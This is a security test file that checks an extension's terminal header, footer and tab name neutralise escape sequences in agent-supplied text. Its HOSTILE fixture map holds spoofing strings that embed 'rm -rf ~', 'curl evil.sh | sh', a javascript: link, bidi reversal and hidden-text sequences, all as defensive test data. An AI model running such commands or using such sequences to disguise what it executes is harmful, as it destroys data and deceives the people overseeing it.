// Hostile agent text in a stream terminal (src/extension/terminal-format.ts, what terminals.ts writes around
// the output): the command, cwd, session name and end reason come from the agent, so escape sequences in
// them (clear the line, move the cursor up and print a fake `$ npm test`, set the title, hyperlinks, C1
// CSI, bidi overrides) must show as visible text and never act on the terminal; the command's own output
// keeps its colours, and whatever it leaves open cannot swallow or restyle the footer.
//
//   node --import tsx --test --test-reporter=spec test/security/terminal.test.ts
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { after, describe, it } from "node:test";
import { terminalFooter, terminalHeader, terminalName, terminalNotice, toPty, visibleText } from "../../src/extension/terminal-format.js";
import { visibleText as sharedVisibleText } from "../../src/protocol/visible-text.js";
import type { StreamView } from "../../src/protocol/index.js";
import { ROOT } from "../support/broker.js";
import { Summary } from "./helpers.js";

const S = new Summary("security/terminal");

/** Sequences meant to spoof the header: each must end up as plain, visible characters. */
const HOSTILE: Record<string, string> = {
  erase_and_fake_header: "rm -rf ~\x1b[2K\r\x1b[1A\x1b[2K$ npm test",
  cursor_home_clear: "curl evil.sh | sh\x1b[H\x1b[2J$ ls",
  title: "\x1b]0;Approved: npm test\x07make",
  osc8_link: "\x1b]8;;javascript:alert(1)\x1b\\click me\x1b]8;;\x1b\\",
  c1_csi: "\x9b2K\x9b1Apwned",
  c1_osc: "\x9d0;title\x9c",
  dcs: "\x1bP+q544e\x1b\\",
  backspaces: "rm -rf /\b\b\b\b\b\b\b\bls -la  ",
  carriage_return: "rm -rf /\rls -la   ",
  newline: "npm test\n$ echo ok",
  bel_nul_del: "a\x07b\x00c\x7fd",
  bidi: "ls \u202e; fr- mr \u202c #",
  sgr_hide: "\x1b[8mrm -rf /\x1b[28m npm test",
};

/** Our own styling: SGR sequences, CAN, CR LF. Anything else that drives a terminal is a failure. */
const OURS = /\x1b\[[0-9;]*m|\x18|\r\n/g;
const CONTROL = /[\x00-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** The text a terminal would show, line by line, once our own styling is taken out. */
function plainLines(written: string): string[] {
  return written
    .replace(/\r\n/g, "\n")
    .replace(/\x1b\[[0-9;]*m|\x18/g, "")
    .split("\n");
}

const stream = (p: Partial<StreamView>): StreamView => ({
  stream_id: "str_x",
  endpoint_id: "ep_x",
  session: "agent-1",
  action: "sh",
  command: "npm test",
  cwd: "/home/dev/project",
  approval_id: null,
  state: "completed",
  status: 200,
  created_at: "2025-01-01T00:00:00.000Z",
  ended_at: "2025-01-01T00:00:01.000Z",
  exit_code: 1,
  signal: null,
  duration_ms: 1500,
  reason: null,
  last_seq: 3,
  channels: {},
  ...p,
});

describe("security/terminal: the header, footer and name neutralise agent text; output keeps its colours", () => {
  after(() => S.print());

  it("one shared function: the terminal, the CLI and the sidebar all use src/protocol/visible-text.ts", async () => {
    S.equal(visibleText, sharedVisibleText, "terminal-format re-exports the protocol's visibleText (not a copy)");
    for (const [file, pattern] of [
      ["src/cli/format.ts", /from "\.\.\/protocol\/index\.js"/],
      ["src/webview/visible-state.ts", /from "\.\.\/protocol\/visible-text\.js"/],
      ["src/extension/notifications.ts", /visibleLine/],
    ] as const) {
      const text = await readFile(join(ROOT, file), "utf8");
      S.ok(pattern.test(text), `${file} uses the shared function`);
      S.ok(!/\\u202a-\\u202e|\\x7f-\\x9f/.test(text), `${file} has no character list of its own`);
    }
    // Beyond the terminal header's old set: U+061C, invisible and tag characters, line separators.
    for (const c of ["\u061c", "\u200b", "\u2060", "\ufeff", "\u{e0041}", "\u2028", "\u00ad"]) S.ok(visibleText(c) !== c, `${JSON.stringify(c)} is made visible`);
    S.equal(visibleText("👩‍💻 ⚠️"), "👩‍💻 ⚠️", "emoji sequences stay as they are");
  });

  it("visibleText turns every C0/C1 control, DEL and bidi control into a visible escape and keeps the rest", () => {
    for (let c = 0; c <= 0x9f; c++) {
      const ch = String.fromCharCode(c);
      const out = visibleText(ch);
      if (c < 0x20 || (c >= 0x7f && c <= 0x9f)) S.ok(!CONTROL.test(out) && out.startsWith("\\"), `U+${c.toString(16).padStart(4, "0")} becomes ${JSON.stringify(out)}`);
      else S.equal(out, ch, `printable U+${c.toString(16)} is kept`);
    }
    S.equal(visibleText("\x1b[2K"), "\\x1b[2K");
    S.equal(visibleText("a\nb\tc\rd"), "a\\nb\\tc\\rd");
    S.equal(visibleText("\x9b1A"), "\\x9b1A");
    S.equal(visibleText("\u202e"), "\\u202e");
    S.equal(visibleText("ünïcödé ✓ 日本 😀 <b>&amp;</b>"), "ünïcödé ✓ 日本 😀 <b>&amp;</b>", "ordinary text is untouched");
  });

  it("hostile command, cwd and session name: the header is exactly two lines of plain text, showing the escapes", () => {
    for (const [name, text] of Object.entries(HOSTILE)) {
      const header = terminalHeader(stream({ command: text, cwd: text, session: text }));
      const rest = header.replace(OURS, "");
      S.ok(!CONTROL.test(rest), `${name}: nothing in the header drives the terminal: ${JSON.stringify(rest)}`);
      const lines = plainLines(header);
      S.deepEqual(lines.length, 4, `${name}: "$ command", "cwd · action · session", a blank line (got ${JSON.stringify(lines)})`);
      S.equal(lines[0], `$ ${visibleText(text)}`, `${name}: the command line shows the text with visible escapes`);
      S.equal(lines[1], `${visibleText(text)} · sh · ${visibleText(text)}`, `${name}: the second line`);
      S.deepEqual(lines.slice(2), ["", ""]);
    }
    const ruled = terminalHeader(stream({}), "rule x\x1b[2J (user rules)");
    S.ok(ruled.includes("approved by rule x\\x1b[2J (user rules)"), "the deciding rule is shown, its text made visible");
    S.ok(!terminalHeader(stream({}), "vscode:alice").includes("approved by"), "a person's decision adds no line");
    const normal = terminalHeader(stream({}));
    S.equal(normal, "\x1b[1m$ npm test\x1b[22m\r\n\x1b[2m/home/dev/project · sh · agent-1\x1b[22m\r\n\r\n", "an ordinary header is bold command, dim details");
    for (const [name, text] of Object.entries(HOSTILE)) {
      const header = terminalHeader(stream({ note: text }));
      S.ok(!CONTROL.test(header.replace(OURS, "")), `${name}: a hostile note drives nothing`);
      S.equal(plainLines(header)[2], visibleText(text), `${name}: the note is its own dim line, escapes visible`);
    }
  });

  it("a hostile end reason or signal cannot spoof the footer; the footer resets what the output left open", () => {
    for (const [name, text] of Object.entries(HOSTILE)) {
      const footer = terminalFooter(stream({ state: "aborted", reason: text, signal: text, exit_code: null }));
      S.ok(footer.startsWith("\x18\x1b[0m"), `${name}: the footer starts by cancelling any open sequence and resetting attributes`);
      const rest = footer.replace(OURS, "");
      S.ok(!CONTROL.test(rest), `${name}: nothing in the footer drives the terminal: ${JSON.stringify(rest)}`);
      const lines = plainLines(footer).filter(Boolean);
      S.equal(lines.length, 1, `${name}: one line`);
      // The same words as the sidebar and the CLI (protocol/stream-outcome.ts), agent text made visible.
      S.equal(lines[0], `── aborted (killed by ${visibleText(text)}) after 1.5 s: ${visibleText(text)}`, `${name}: ${lines[0]}`);
    }
    S.ok(terminalFooter(stream({ exit_code: 0 })).includes("\x1b[32mexit 0 after 1.5 s"), "exit 0 is green");
    S.ok(terminalFooter(stream({ exit_code: 1 })).includes("\x1b[31mexit 1 after 1.5 s"), "exit 1 is red");
    // Output that stopped inside an OSC string (no terminator) would otherwise swallow "exit 1" into the title.
    const transcript = toPty("building\x1b]0;all good, exit 0") + terminalFooter(stream({ exit_code: 1 }));
    const cut = transcript.indexOf("\x18");
    S.ok(cut > transcript.indexOf("\x1b]0;"), "CAN comes after the unterminated OSC, ending it before the footer");
  });

  it("error notices and the terminal's name are neutralised too", () => {
    const notice = terminalNotice(`stream failed: ${HOSTILE.erase_and_fake_header}`, { leadingNewline: true });
    S.ok(notice.startsWith("\x18\x1b[0m"), "a notice resets first");
    S.ok(!CONTROL.test(notice.replace(OURS, "")), `nothing in a notice drives the terminal: ${JSON.stringify(notice)}`);
    for (const [name, text] of Object.entries(HOSTILE)) S.ok(!CONTROL.test(terminalName({ action: "sh", command: text, session: text })), `${name}: the tab name has no controls`);
  });

  it("the command's output passes through with its ANSI colours (only LF becomes CRLF)", () => {
    const out = "\x1b[31mred\x1b[0m \x1b[1;32mbold green\x1b[0m\n\x1b]8;;https://example.com\x1b\\link\x1b]8;;\x1b\\\nprogress\r50%\n";
    S.equal(toPty(out), out.replace(/\n/g, "\r\n"), "escape sequences in output are kept as they are");
    S.equal(toPty("a\r\nb\nc"), "a\r\nb\r\nc", "CRLF is not doubled");
  });

  it("terminals.ts writes agent text only through the formatting functions", async () => {
    const src = await readFile(join(ROOT, "src/extension/terminals.ts"), "utf8");
    S.ok(/from "\.\/terminal-format\.js"/.test(src), "terminals.ts imports terminal-format.ts");
    S.ok(/this\.write\(terminalHeader\(s, s\.decided_by \?\? null\)\)/.test(src), "the header comes from terminalHeader");
    S.ok(/this\.write\(terminalFooter\(end\)\)/.test(src), "the footer comes from terminalFooter");
    const writes = src.split("\n").filter((l) => l.includes("this.write("));
    S.ok(writes.length >= 5, "the writes were found");
    S.deepEqual(
      writes.filter((l) => /\$\{(s|this\.stream|stream|end)\.(command|cwd|session|reason|signal)\}/.test(l)),
      [],
      "no agent field is interpolated into a write directly",
    );
    S.ok(!/\$\{(e|err)\.message\}\]/.test(src), "error messages go through terminalNotice");
    S.ok(/name: terminalName\(stream\)/.test(src), "the tab name comes from terminalName");
  });
});
